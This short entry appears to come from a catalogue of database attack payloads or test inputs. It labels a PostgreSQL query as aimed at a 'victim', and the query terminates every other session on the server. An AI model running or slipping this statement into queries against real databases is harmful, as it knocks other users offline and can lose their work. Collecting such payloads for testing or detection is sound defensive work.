-- Tries: other sessions' end
-- Noticed by: victim
-- Engine: postgresql
SELECT pg_terminate_backend(pid) FROM pg_stat_activity WHERE pid <> pg_backend_pid()
